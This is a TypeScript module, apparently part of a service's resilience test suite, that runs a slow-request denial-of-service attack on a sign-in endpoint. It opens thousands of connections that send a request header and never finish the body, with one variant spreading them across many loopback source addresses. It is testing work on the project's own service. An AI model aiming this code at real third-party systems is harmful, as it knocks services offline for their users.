import { connect, type Socket } from 'node:net';
import type { Attack, Target } from './attack.ts';
import { besideAttack, checkProbe, isLoopback, signInProbe } from './bystander.ts';

const CONNECTIONS = 5_000;
/** Connections opened at the same time: few enough that the queue of the listening socket does not overflow. */
const AT_ONCE = 100;
const CHECKS = 200;
const SIGN_INS = 5;
const LOOPBACK_ADDRESSES = 100;

const HEAD = [
  'POST /api/auth/session HTTP/1.1',
  'Host: attack',
  'Content-Type: application/json',
  'Content-Length: 4000',
  '',
  '{"apiKey":',
].join('\r\n');

/** The address that connection `index` comes from; undefined is the usual one. */
type From = (index: number) => string | undefined;

const halfSent = (name: string, finding: string, from: (target: Target) => From): Attack => ({
  name,
  finding,
  run: (target) =>
    besideAttack(
      target,
      [checkProbe(target, CHECKS), signInProbe(target, SIGN_INS)],
      async (begun, signal) => {
        const sockets: Socket[] = [];
        const connections = Math.ceil(CONNECTIONS * target.strength);
        const addressOf = from(target);
        while (sockets.length < connections && !signal.aborted) {
          const next = Array.from({ length: AT_ONCE }, (_, i) =>
            openHalfSent(target, addressOf(sockets.length + i)),
          );
          sockets.push(...(await Promise.all(next)));
        }
        begun();
        if (!signal.aborted)
          await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
        for (const socket of sockets) socket.destroy();
      },
    ),
});

export const halfSentBodies = halfSent(
  'half-sent-bodies',
  'Bodies that one address begins and never ends must not stop signing in or a check.',
  () => () => undefined,
);

export const halfSentBodiesOfMany = halfSent(
  'half-sent-bodies-of-many',
  'The same from many addresses must not stop signing in or a check either.',
  (target) => {
    if (!isLoopback(target)) return () => undefined;
    return (index) => `127.0.1.${1 + (index % LOOPBACK_ADDRESSES)}`;
  },
);

function openHalfSent(target: Target, localAddress: string | undefined): Promise<Socket> {
  const { hostname, port } = new URL(target.url);
  return new Promise((resolve) => {
    const socket = connect({
      host: hostname,
      port: Number(port),
      ...(localAddress !== undefined && { localAddress }),
    });
    socket.once('connect', () => {
      socket.write(HEAD);
      resolve(socket);
    });
    // No failure: the attack expects the service to refuse or end connections.
    socket.on('error', () => resolve(socket)).resume();
  });
}
